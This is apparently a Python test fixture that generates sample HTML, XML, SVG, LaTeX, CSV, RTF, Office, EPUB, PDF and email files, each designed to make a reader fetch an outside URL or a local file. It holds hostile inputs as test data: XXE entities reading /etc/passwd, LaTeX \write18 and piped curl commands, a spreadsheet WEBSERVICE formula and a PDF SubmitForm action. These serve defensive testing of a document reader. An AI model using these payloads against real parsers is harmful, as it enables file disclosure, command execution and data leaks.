"""Documents of many kinds that point outwards: each asks its reader to fetch something."""
# ruff: noqa: E501

from __future__ import annotations

import json

import pymupdf

from tests.readers.files import zipped

URL = "http://198.51.100.7/outward"
FILE = "file:///etc/passwd"
_PACKAGE = "http://schemas.openxmlformats.org/package/2006/"
_OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
_TYPES = "application/vnd.openxmlformats-officedocument"
_ENTITIES = (
    f'<!DOCTYPE r SYSTEM "{URL}.dtd" [<!ENTITY a SYSTEM "{URL}"><!ENTITY b SYSTEM "{FILE}">'
    f'<!ENTITY % c SYSTEM "{URL}.ent">%c;]>'
)
_HTML = (
    f'<html><head><base href="{URL}/"><link rel="stylesheet" href="{URL}.css"><script src="{URL}.js"></script>'
    f'<style>@import url("{URL}.css"); @font-face {{font-family: x; src: url({URL}.ttf)}}</style>'
    f'<meta http-equiv="refresh" content="0; url={URL}"></head><body background="{URL}.png"><p>Words.</p>'
    f'<img src="{URL}.png" srcset="{URL}.png 2x"><iframe src="{URL}"></iframe><object data="{URL}"></object>'
    f'<embed src="{URL}"><video src="{URL}" poster="{URL}"></video><img src="{FILE}"></body></html>'
)
_SVG = (
    f'{_ENTITIES}<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="90"'
    f' height="90"><image xlink:href="{URL}.png" width="9" height="9"/><image href="{FILE}" width="9" height="9"/>'
    f'<use href="{URL}.svg#a"/><style>@import url({URL}.css);</style><script href="{URL}.js"/>'
    f'<text x="5" y="20">Words &a; &b;</text></svg>'
)


def documents() -> dict[str, bytes]:
    """The bytes of each, by file name."""
    flat = {name: text.encode() for name, text in _texts().items()}
    return {**flat, **_packages(), "a.pdf": _pdf(), "a.eml": _mail()}


def _texts() -> dict[str, str]:
    return {
        "a.html": _HTML,
        "a.xhtml": f'<?xml version="1.0"?>{_ENTITIES}<html xmlns="http://www.w3.org/1999/xhtml">Words &a;&b;</html>',
        "a.svg": _SVG,
        "a.xml": f'<?xml version="1.0"?><?xml-stylesheet href="{URL}.xsl" type="text/xsl"?>{_ENTITIES}'
        f'<r xmlns:xi="http://www.w3.org/2001/XInclude" xmlns:x="http://www.w3.org/2001/XMLSchema-instance"'
        f' x:schemaLocation="{URL} {URL}.xsd"><xi:include href="{URL}"/><xi:include href="{FILE}"/>Words &a;&b;</r>',
        "a.md": f"# Words\n\n![]({URL}.png) <{URL}>\n\n{_HTML}\n",
        "a.rst": f"Words\n=====\n\n.. image:: {URL}.png\n\n.. include:: {URL}\n\n.. raw:: html\n   :url: {URL}\n\n"
        f".. csv-table::\n   :url: {URL}\n\n.. raw:: html\n   :file: /etc/passwd\n",
        "a.adoc": f"= Words\n\ninclude::{URL}[]\n\nimage::{URL}.png[]\n\ninclude::/etc/passwd[]\n",
        "a.tex": "\\documentclass{article}\\begin{document}Words \\input{/etc/passwd}\\input{|curl "
        f"{URL}}}\\includegraphics{{{URL}.png}}\\immediate\\write18{{curl {URL}}}\\end{{document}}",
        "a.json": json.dumps({"$schema": URL, "$ref": URL, "@context": URL, "words": "Words"}),
        "a.ipynb": json.dumps(
            {"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": [
                {"cell_type": "markdown", "metadata": {}, "source": f"Words ![]({URL}.png)"},
                {"cell_type": "code", "metadata": {}, "source": f"!curl {URL}", "outputs": [
                    {"output_type": "display_data", "metadata": {}, "data": {"text/html": _HTML}}]},
            ]}
        ),
        "a.csv": f'Words,b\n=WEBSERVICE("{URL}"),=IMAGE("{URL}.png")\n',
        "a.rtf": r"{\rtf1\ansi{\*\template " + URL + r"}Words {\field{\*\fldinst INCLUDEPICTURE "
        f'"{URL}.png" \\\\d}}{{\\fldrslt x}}}}{{\\field{{\\*\\fldinst INCLUDETEXT "{FILE}"}}{{\\fldrslt x}}}}}}',
        "a.fodt": '<?xml version="1.0"?><office:document xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office'
        ':1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" xmlns:draw="urn:oasis:names:tc:'
        'opendocument:xmlns:drawing:1.0" xmlns:xlink="http://www.w3.org/1999/xlink" office:version="1.2"'
        ' office:mimetype="application/vnd.oasis.opendocument.text"><office:body><office:text>'
        f'<text:p>Words<draw:frame><draw:image xlink:href="{URL}.png"/></draw:frame></text:p>'
        f'<text:section text:name="s"><text:section-source xlink:href="{URL}.odt"/></text:section>'
        "</office:text></office:body></office:document>",
    }  # fmt: skip


def _packages() -> dict[str, bytes]:
    body = (
        f'<w:document xmlns:w="{_WORD}" xmlns:r="{_OFFICE}"><w:body><w:p><w:r><w:t>Words</w:t></w:r></w:p>'
        '<w:altChunk r:id="chunk"/><w:p><w:r><w:fldChar w:fldCharType="begin"/><w:instrText>'
        f'INCLUDEPICTURE "{URL}.png" \\d</w:instrText><w:fldChar w:fldCharType="end"/></w:r></w:p>'
        '<w:p><w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml"><v:imagedata r:id="image"/>'
        "</v:shape></w:pict></w:r></w:p></w:body></w:document>"
    )
    sheet = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    return {
        "a.docx": _office(
            "word/document.xml", f"{_TYPES}.wordprocessingml.document.main+xml", body,
            ("chunk", "aFChunk"), ("image", "image"), ("template", "attachedTemplate"),
        ),
        "a.xlsx": _office(
            "xl/workbook.xml", f"{_TYPES}.spreadsheetml.sheet.main+xml",
            f'<workbook xmlns="{sheet}" xmlns:r="{_OFFICE}"><sheets><sheet name="s" sheetId="1" r:id="s"/></sheets>'
            '<externalReferences><externalReference r:id="link"/></externalReferences></workbook>',
            ("link", "externalLinkPath"), ("s", "worksheet"),
        ),
        "a.odt": zipped({
            "mimetype": "application/vnd.oasis.opendocument.text",
            "content.xml": _texts()["a.fodt"],
            "META-INF/manifest.xml": "<manifest/>",
        }),
        "a.epub": zipped({
            "mimetype": "application/epub+zip",
            "META-INF/container.xml": f'<?xml version="1.0"?>{_ENTITIES}<container xmlns="urn:oasis:names:tc:'
            'opendocument:xmlns:container"><rootfiles><rootfile full-path="p.opf"/></rootfiles></container>',
            "p.opf": '<package xmlns="http://www.idpf.org/2007/opf"><manifest><item id="a" href="a.xhtml"'
            f' media-type="application/xhtml+xml"/><item id="b" href="{URL}"'
            ' media-type="application/xhtml+xml"/></manifest><spine><itemref idref="a"/><itemref idref="b"/>'
            "</spine></package>",
            "a.xhtml": _HTML,
        }),
    }  # fmt: skip


def _office(part: str, kind: str, body: str, *outward: tuple[str, str]) -> bytes:
    folder, _, name = part.rpartition("/")
    links = "".join(
        f'<Relationship Id="{key}" Type="{_OFFICE}/{relation}" Target="{URL}" TargetMode="External"/>'
        for key, relation in outward
    )
    return zipped({
        "[Content_Types].xml": f'<Types xmlns="{_PACKAGE}content-types"><Default Extension="rels" ContentType='
        '"application/vnd.openxmlformats-package.relationships+xml"/>'
        f'<Override PartName="/{part}" ContentType="{kind}"/></Types>',
        "_rels/.rels": f'<Relationships xmlns="{_PACKAGE}relationships"><Relationship Id="r" Type="{_OFFICE}/'
        f'officeDocument" Target="{part}"/></Relationships>',
        part: body,
        f"{folder}/_rels/{name}.rels": f'<Relationships xmlns="{_PACKAGE}relationships">{links}</Relationships>',
    })  # fmt: skip


def _pdf() -> bytes:
    document = pymupdf.open()
    page = document.new_page()
    page.insert_text((72, 72), "Words")
    page.insert_link({"kind": pymupdf.LINK_URI, "from": pymupdf.Rect(0, 0, 99, 99), "uri": URL})
    outward = document.get_new_xref()
    document.update_object(outward, f"<</Type/Filespec/FS/URL/F({URL})>>")
    action = f"<</S/GoToR/F {outward} 0 R/D[0/Fit]/Next<</S/SubmitForm/F {outward} 0 R>>>>"
    document.xref_set_key(document.pdf_catalog(), "OpenAction", action)
    stream = document.get_new_xref()
    document.update_object(stream, f"<</Type/XObject/Subtype/Form/BBox[0 0 9 9]/F {outward} 0 R>>")
    document.update_stream(stream, b"q Q", new=True)
    resources = int(document.xref_get_key(page.xref, "Resources")[1].split()[0])
    document.xref_set_key(resources, "XObject", f"<</X {stream} 0 R>>")
    return bytes(document.tobytes())


def _mail() -> bytes:
    return (
        "From: a@example.org\r\nSubject: Words\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=b"
        f"\r\n\r\n--b\r\nContent-Type: text/html\r\nContent-Location: {URL}\r\n\r\n{_HTML}\r\n--b\r\n"
        f'Content-Type: message/external-body; access-type=URL; URL="{URL}"\r\n\r\n\r\n--b--\r\n'
    ).encode()
